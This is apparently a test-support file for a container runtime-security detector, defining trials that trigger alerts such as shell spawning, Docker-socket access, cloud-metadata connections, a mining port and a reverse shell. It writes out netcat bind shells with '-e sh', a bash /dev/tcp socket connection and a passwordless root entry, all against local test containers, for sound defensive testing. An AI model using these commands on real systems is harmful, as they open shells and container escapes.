import type {busyboxImage} from '../support/images.js';
import type {PrivateEngine} from '../support/private-engine.js';

/** Something that a container does, or that is done to it, and the alert about it. */
export type DetectionTrial = {
	readonly rule: string;
	readonly workload: string;
	/** A part of the alert. */
	readonly text: string;
	readonly act: (engine: PrivateEngine) => Promise<unknown>;
	/** The engine's event from which on time counts, where the act is not what was asked of it, but follows. */
	readonly began?: string;
	/** Milliseconds that it may take longer. */
	readonly later?: number;
};

/** AF_UNIX and SOCK_STREAM are 1. */
const connecting = 'socket(my $s, 1, 1, 0); connect($s, pack("Sa*", 1, "/var/run/docker.sock")) or die $!;';

/** The containers that the trials are about. */
export async function startSubjects(engine: PrivateEngine, image: typeof busyboxImage): Promise<void> {
	await image(engine, {
		name: 'app:1',
		programs: {'usr/bin/apk': {}, 'usr/bin/whoami': {mode: 0o4755}, 'usr/bin/su': {mode: 0o4755}},
		hostPrograms: ['perl'],
		files: {
			'etc/passwd': 'root::0:0:root:/:/bin/sh\nuser:x:1000:1000::/:/bin/sh\n',
			'srv/loop.sh': 'while :; do [ -e /tmp/go ] && { rm /tmp/go; /usr/bin/su root -c "/bin/sleep 1; true"; }; sleep 0.1; done',
		},
	});
	const start = (name: string, ...more: readonly string[]) =>
		engine.docker('run', '-d', '--init', '--name', name, '--stop-signal', 'KILL', ...more);
	const idle = ['app:1', 'sleep', '100000'];
	await start('app', 'app:1', 'nc', '-ll', '-p', '9000', '-e', 'sh');
	await start('user', '--user', '1000', 'app:1', 'sh', '/srv/loop.sh');
	await start('admin', '--cap-add', 'SYS_ADMIN', '--security-opt', 'apparmor=unconfined', ...idle);
	await start('peer', 'app:1', 'nc', '-ll', '-p', '7000', '-e', 'sleep', '20');
	await start('client', '-v', `${engine.host.replace('unix://', '')}:/var/run/docker.sock`, ...idle);
	await start('web', ...idle);
	await start('idle', ...idle);
	for (const address of ['169.254.169.254/32', '198.51.100.9/32'])
		await engine.inNetwork('ip', 'address', 'add', address, 'dev', 'lo');
	for (const port of ['80', '3333'])
		void engine.inNetwork('timeout', '600', 'busybox', 'nc', '-ll', '-p', port, '-e', 'sleep', '10').catch(() => undefined);
}

const exec =
	(...args: readonly string[]) =>
	(engine: PrivateEngine): Promise<unknown> =>
		// Some of the programs fail, which is not what counts.
		engine.docker('exec', ...args).catch(String);
const address = (engine: PrivateEngine, name: string): Promise<string> =>
	engine.docker('inspect', '--format', '{{.NetworkSettings.IPAddress}}', name);
const run = (engine: PrivateEngine, name: string, ...more: readonly string[]) =>
	engine.docker('run', '-d', '--name', name, '--stop-signal', 'KILL', ...more);

/** Each detection once. */
export const detectionTrials: readonly DetectionTrial[] = [
	{rule: 'runtime-shell', workload: 'app', text: 'sh as root', act: exec('app', 'sh')},
	{rule: 'runtime-exec-privileged', workload: 'app', text: 'true', act: exec('--privileged', 'app', 'true')},
	{rule: 'runtime-exec-root', workload: 'user', text: 'id', act: exec('--user', '0', 'user', 'id')},
	{rule: 'runtime-package-manager', workload: 'app', text: '/usr/bin/apk', act: exec('app', 'apk', 'add', 'curl')},
	{
		rule: 'runtime-program-outside-image',
		workload: 'app',
		text: '/tmp/dropped',
		act: exec('app', 'sh', '-c', 'cp /bin/busybox /tmp/dropped; /tmp/dropped true'),
	},
	{rule: 'runtime-setuid-program', workload: 'user', text: '/usr/bin/whoami', act: exec('user', '/usr/bin/whoami')},
	{rule: 'runtime-root-process', workload: 'user', text: '/bin/sleep', act: exec('user', 'touch', '/tmp/go')},
	{
		rule: 'runtime-routine-capability',
		workload: 'app',
		text: 'CHOWN',
		act: exec('app', 'sh', '-c', 'touch /tmp/f; chown 1000 /tmp/f'),
	},
	{rule: 'runtime-new-capability', workload: 'app', text: 'MKNOD', act: exec('app', 'mknod', '/tmp/null', 'c', '1', '3')},
	{
		rule: 'runtime-kernel-access',
		workload: 'admin',
		text: 'SYS_ADMIN',
		act: exec('admin', 'mount', '-t', 'tmpfs', 'none', '/tmp'),
	},
	{rule: 'runtime-engine-socket', workload: 'client', text: 'perl', act: exec('client', 'perl', '-e', connecting)},
	{rule: 'runtime-new-listener', workload: 'app', text: ':4444/tcp', act: exec('-d', 'app', 'nc', '-l', '-p', '4444')},
	{
		rule: 'runtime-new-destination',
		workload: 'app',
		text: 'peer:7000',
		act: async engine => engine.docker('exec', '-d', 'app', 'nc', await address(engine, 'peer'), '7000'),
	},
	{
		rule: 'runtime-metadata-service',
		workload: 'app',
		text: '169.254.169.254:80',
		act: exec('-d', 'app', 'nc', '169.254.169.254', '80'),
	},
	{rule: 'runtime-mining-port', workload: 'app', text: '198.51.100.9:3333', act: exec('-d', 'app', 'nc', '198.51.100.9', '3333')},
	{
		rule: 'runtime-reverse-shell',
		workload: 'app',
		text: 'reads from a socket',
		act: async engine =>
			engine.inNetwork('bash', '-c', `exec 3<>/dev/tcp/${await address(engine, 'app')}/9000; echo 'sleep 1' >&3; sleep 2`),
	},
	{
		rule: 'runtime-oom',
		workload: 'greedy',
		text: 'lack of memory',
		act: engine => run(engine, 'greedy', '--memory', '32m', '--memory-swap', '32m', 'app:1', 'tail', '/dev/zero'),
		began: 'oom',
	},
	{
		rule: 'runtime-crash-loop',
		workload: 'failing',
		text: 'exit status 3',
		act: engine => run(engine, 'failing', '--restart', 'on-failure:2', 'app:1', 'sh', '-c', 'exit 3'),
		began: 'die',
	},
	{
		rule: 'runtime-worse-configuration',
		workload: 'web',
		text: 'grade ',
		act: async engine => {
			await engine.docker('rm', '--force', 'web');
			await run(engine, 'web', '--privileged', '--init', 'app:1', 'sleep', '100000');
		},
		began: 'start',
	},
	{
		rule: 'runtime-registry',
		workload: 'fresh',
		text: 'started from app:1',
		act: engine => run(engine, 'fresh', '--init', 'app:1', 'sleep', '100000'),
		began: 'start',
	},
];
